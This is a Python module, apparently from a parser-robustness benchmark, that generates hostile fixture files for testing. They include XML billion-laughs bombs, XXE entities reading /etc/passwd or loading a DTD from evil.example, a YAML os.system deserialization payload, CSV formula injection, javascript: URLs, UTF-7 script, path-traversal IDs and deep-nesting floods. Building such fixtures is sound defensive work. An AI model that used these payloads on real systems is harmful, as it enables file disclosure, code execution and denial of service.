"""Files whose structure is the attack: bombs, depths, loops, floods of elements, references to elsewhere."""

from __future__ import annotations

import json
from collections.abc import Iterator

from benchmarks.hostile import packages, pdfs

_SAID = "Minister Quist met Minister Oyelaran. They spoke of kelp."
_OUT = "http://evil.example/x"


def structures(size: int) -> Iterator[tuple[str, bytes]]:
    """Every file, by its name.

    Args:
        size: How many elements, levels or items the floods have.
    """
    for make in (_pages, _xml, _feeds, _json, _front_matter, _tables, packages.packages, pdfs.pdfs):
        yield from make(size)


def _pages(size: int) -> Iterator[tuple[str, bytes]]:
    for name in ("div", "b", "table", "ul", "blockquote", "font", "q", "pre"):
        yield f"deep-{name}.html", f"<html><body>{f'<{name}>' * size}{_SAID}".encode()
    yield "deep-but-read.html", f"<html><body>{'<div>' * 200}{_SAID}{'</div>' * 200}".encode()
    yield "elements.html", f"<html><body>{'<p>a</p>' * size}".encode()
    yield "attributes.html", f"<html><body><p {' '.join(f'a{n}=b' for n in range(size))}>{_SAID}".encode()
    yield "attribute-long.html", f"<html><body><p title='{'x' * size * 10}'>{_SAID}".encode()
    yield "never-closed.html", f"<html><body><p>{_SAID}{'<a href=' * size}".encode()
    yield "comment-never-closed.html", f"<html><body><p>{_SAID}<!--{'x' * size}".encode()
    yield "cells.html", f"<html><body><table>{('<tr>' + '<td>a' * 20) * (size // 20)}{_SAID}".encode()
    yield "links.html", f"<html><body><p>{_SAID}</p>{f'<a href={_OUT}>more kelp</a> ' * size}".encode()
    yield "entities.html", f"<html><body><p>{_SAID}{'&amp;' * size}{'&#x1b;[31m' * 9}".encode()
    yield "meta.html", f"<html><head>{'<meta name=author content=x>' * size}</head><body><p>{_SAID}".encode()
    yield "base.html", f"<base href='{_OUT}'><meta http-equiv=refresh content='0;{_OUT}'><body><p>{_SAID}".encode()
    yield (
        "loaded.html",
        f"<html><body><p>{_SAID}<img src={_OUT}><script src={_OUT}></script><iframe src={_OUT}>".encode(),
    )
    ld = json.dumps({"@type": "NewsArticle", "headline": "k" * size, "url": "javascript:alert(1)"})
    yield "linked-data.html", f"<html><script type='application/ld+json'>{ld}</script><body><p>{_SAID}".encode()
    nested = '{"@graph":[' * size
    yield (
        "linked-data-deep.html",
        f"<html><script type='application/ld+json'>{nested}</script><body><p>{_SAID}".encode(),
    )
    yield "charset.html", f"<html><meta charset='hex_codec'><body><p>{_SAID} é".encode("latin-1")
    yield "utf7.html", f"<html><meta charset=utf-7><body><p>{_SAID} +ADw-script+AD4- \xe9".encode("latin-1")


def _xml(size: int) -> Iterator[tuple[str, bytes]]:
    def record(text: str, head: str = "") -> bytes:
        return (
            f"<?xml version='1.0'?>{head}<records><record><title>Kelp</title><text>{text}</text></record></records>"
        ).encode()

    laughs = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 20))
    yield "laughs.xml", record("&a19;", f"<!DOCTYPE x [<!ENTITY a0 'ha'>{laughs}]>")
    yield "blow-up.xml", record("&a;" * size, f"<!DOCTYPE x [<!ENTITY a '{'x' * size}'>]>")
    yield "laughs-utf16.xml", record("&a9;", f"<!DOCTYPE x [<!ENTITY a0 'ha'>{laughs}]>").decode().encode("utf-16")
    yield "file.xml", record("&a;", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>")
    yield "parameter.xml", record(_SAID, f"<!DOCTYPE x [<!ENTITY % a SYSTEM '{_OUT}'> %a;]>")
    yield "definition.xml", record(_SAID, f"<!DOCTYPE records SYSTEM '{_OUT}'>")
    yield "include.xml", record(f"{_SAID}<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{_OUT}'/>")
    yield "style.xml", record(_SAID, f"<?xml-stylesheet href='{_OUT}'?>")
    yield "deep.xml", record("<a>" * size + _SAID)
    yield "deep-records.xml", f"<?xml version='1.0'?>{'<r><title>a</title><text>b</text>' * size}".encode()
    many = " ".join(f"a{n}='..'" for n in range(size))
    yield "attributes.xml", f"<?xml version='1.0'?><r {many}/>".encode()
    yield "attribute-long.xml", f"<?xml version='1.0'?><r a='{'x' * size * 10}'><title>a</title></r>".encode()
    yield "name-long.xml", f"<?xml version='1.0'?><{'r' * size * 10}/>".encode()
    many = " ".join(f"xmlns:a{n}='b'" for n in range(size))
    yield "spaces.xml", f"<?xml version='1.0'?><r {many}/>".encode()
    yield "cdata.xml", record("<![CDATA[" * size)
    yield "instructions.xml", record("<?a b?>" * size + _SAID)
    fields = "".join(f"<f{n}>a</f{n}>" for n in range(size))
    yield "fields.xml", f"<?xml version='1.0'?><r><title>a</title><text>{_SAID}</text>{fields}</r>".encode()
    yield "titles.xml", f"<?xml version='1.0'?><r>{'<title>a</title>' * size}<text>{_SAID}</text></r>".encode()
    yield "texts.xml", f"<?xml version='1.0'?><r><title>a</title>{'<text>They met.</text>' * size}</r>".encode()
    one = f"<record><title>a</title><text>{_SAID}</text></record>"
    yield "nested-alike.xml", f"<?xml version='1.0'?>{'<record>' * 200}{one * 9}{'</record>' * 200}".encode()
    yield "tei.xml", f"<TEI><teiHeader/>{'<text><body>' * 100}<p>{_SAID}".encode()


def _feeds(size: int) -> Iterator[tuple[str, bytes]]:
    def feed(items: str) -> bytes:
        return f"<rss><channel><title>Ministry</title>{items}</channel></rss>".encode()

    yield "empty-items.rss", feed("<item/>" * size)
    yield "same-guid.rss", feed(f"<item><guid>1</guid><title>a</title><description>{_SAID}</description></item>" * 300)
    yield "deep-item.rss", feed(f"<item><title>a</title><description>{'<b>' * size}{_SAID}")
    yield (
        "deep-html.rss",
        feed(f"<item><title>a</title><description>{'&lt;div&gt;' * size}{_SAID}</description></item>"),
    )
    yield "items-in-items.rss", feed("<item><title>a</title>" * size)
    yield (
        "links.rss",
        feed(f"<item><title>a</title>{f'<link>{_OUT}</link>' * size}<description>{_SAID}</description></item>"),
    )
    yield (
        "channel.rss",
        feed(f"{'<title>x</title>' * size}<item><title>a</title><description>{_SAID}</description></item>"),
    )
    yield (
        "script-link.rss",
        feed(f"<item><title>a</title><link>javascript:alert(1)</link><description>{_SAID}</description></item>"),
    )
    yield "laughs.rss", b"<!DOCTYPE x [<!ENTITY a 'ha'>]>" + feed("<item><title>&a;</title></item>")
    yield (
        "enclosures.rss",
        feed(f"<item><title>a</title><description>{_SAID}</description><enclosure url='file:///etc/passwd'/></item>"),
    )


def _json(size: int) -> Iterator[tuple[str, bytes]]:
    yield "deep-arrays.json", b"[" * size
    yield "deep-objects.json", b'{"a":' * size
    yield "deep-field.json", b'[{"text":"They met.","title":' + b"[" * 500 + b"]" * 500 + b"}]"
    yield "deep-line.jsonl", b'{"text":"They met of kelp.","a":' + b"[" * size + b'}\n{"text":"They met."}\n'
    yield "fields.json", json.dumps({"text": _SAID} | {f"a{n}": n for n in range(size)}).encode()
    yield (
        "fields-each.jsonl",
        b"\n".join(json.dumps({"text": _SAID, f"a{n}": n}).encode() for n in range(min(size, 3000))),
    )
    yield "number-long.json", b'{"text":"They met.","date":' + b"9" * size + b"}"
    yield "number-huge.json", b'{"text":"They met.","date":1e999999,"title":-0.0,"id":NaN}'
    yield "id-long.json", json.dumps({"text": _SAID, "id": "x" * size * 10}).encode()
    yield "title-long.json", json.dumps({"text": _SAID, "title": "kelp " * size}).encode()
    yield "issuer-long.json", json.dumps({"text": _SAID, "issuer": "kelp " * size}).encode()
    yield "url-long.json", json.dumps({"text": _SAID, "url": "https://a.b/" + "x" * size * 10}).encode()
    yield (
        "url-script.json",
        json.dumps({"text": _SAID, "url": "javascript:alert(1)", "source": "data:text/html,x"}).encode(),
    )
    yield "parties-many.json", json.dumps({"text": _SAID, "parties": [f"Quist {n}" for n in range(size)]}).encode()
    yield "party-long.json", json.dumps({"text": _SAID, "parties": ["Quist " * size]}).encode()
    yield "place-long.json", json.dumps({"text": _SAID, "place": "Kelp " * size, "note": "x" * size}).encode()
    ids = [
        "../x",
        "/etc/passwd",
        "a/../../b",
        "..\\..\\x",
        "",
        "-n",
        "--index",
        "*",
        "[a-z]*",
        "'; --",
        "a\nb",
        "con",
        "~",
        ".",
    ]
    yield "ids.json", json.dumps([{"id": name, "text": f"{_SAID} {n}"} for n, name in enumerate(ids)]).encode()
    yield "same-id.jsonl", b"\n".join(json.dumps({"id": "kelp", "text": f"{_SAID} {n}"}).encode() for n in range(400))
    yield (
        "days.jsonl",
        b"\n".join(json.dumps({"text": _SAID, "date": day}).encode() for day in ("9999-99-99", "0000-01-01", "1" * 99)),
    )
    yield "commas.json", b'[{"text":"They met."}' + b"," * size
    yield "escapes.json", b'{"text":"' + b"\\u001b[31m\\ud800\\u202e" * 99 + b' They met."}'
    yield "lines-of-nothing.jsonl", b"1\n" * size + b'{"text":"They met."}'


def _front_matter(size: int) -> Iterator[tuple[str, bytes]]:
    def front(words: str) -> bytes:
        return f"---\ntitle: Kelp\n{words}\n---\n\n{_SAID}\n".encode()

    laughs = "\n".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12))
    yield "aliases.md", front(f"a0: &a0 [x]\n{laughs}")
    yield "object.md", front("x: !!python/object/apply:os.system ['touch owned']")
    yield "tag.md", front("x: !!python/name:os.system\ny: !!binary aGk=\nz: !<tag:evil> {a: b}")
    yield "deep.md", front("x: " + "[" * size)
    yield "deep-braces.md", front("x: " + "{a: " * size)
    yield "deep-dashes.md", front("x:\n " + "- " * size + "a")
    yield "keys.md", front("\n".join(f"k{n}: v" for n in range(size)))
    yield "key-long.md", front("k" * size + ": v")
    yield "merge.md", front("<<: {title: forged}\n? [a, b]\n: c")
    yield "numbers.md", front("date: 99999999999999\nx: 0x" + "f" * 4000 + "\ny: 1:2:3:4:5:6:7\nz: .inf")
    yield "documents.md", front("a: b\n...\n" * 99)
    yield "never-closed.md", f"---\ntitle: x\n{'a: b' * size}".encode()


def _tables(size: int) -> Iterator[tuple[str, bytes]]:
    yield "columns.csv", (",".join(f"c{n}" for n in range(size)) + "\n" + ",".join(["a"] * size)).encode()
    yield "cells.csv", b"title,text\n" + b"a," * size + b"\n" + f"x,{_SAID}\n".encode()
    yield "quote-open.csv", f'title,text\na,"{"They met of kelp. " * size}'.encode()
    yield "quotes.csv", b"title,text\n" + b'"""' * size
    yield "cell-long.csv", f'title,text\na,"{"x" * size * 10}"\n'.encode()
    yield "formulas.csv", ("title,text\n" + "".join(f'"={n}+cmd|x","@SUM({n}) {_SAID}"\n' for n in range(50))).encode()
    yield (
        "ragged.csv",
        ("title,text\n" + "".join("a," * (n % 40) + "\n" for n in range(2000)) + f"x,{_SAID}\n").encode(),
    )
    yield "nulls.csv", b"title,text\n\x00,\x00\n"
    yield "returns.csv", b"title,text\r" + f"a,{_SAID}\r".encode() * 20
    yield "marks.tsv", (f"title\ttext\n{_SAID}\t{_SAID}|;,{_SAID}\n" * 30).encode()
    yield "head-alone.csv", b"text"
    yield "header-acts.csv", f"\x1b[31mtitle,=text,\u202edate\nx,{_SAID * 3},2023-01-01\ny,{_SAID * 3},b\n".encode()
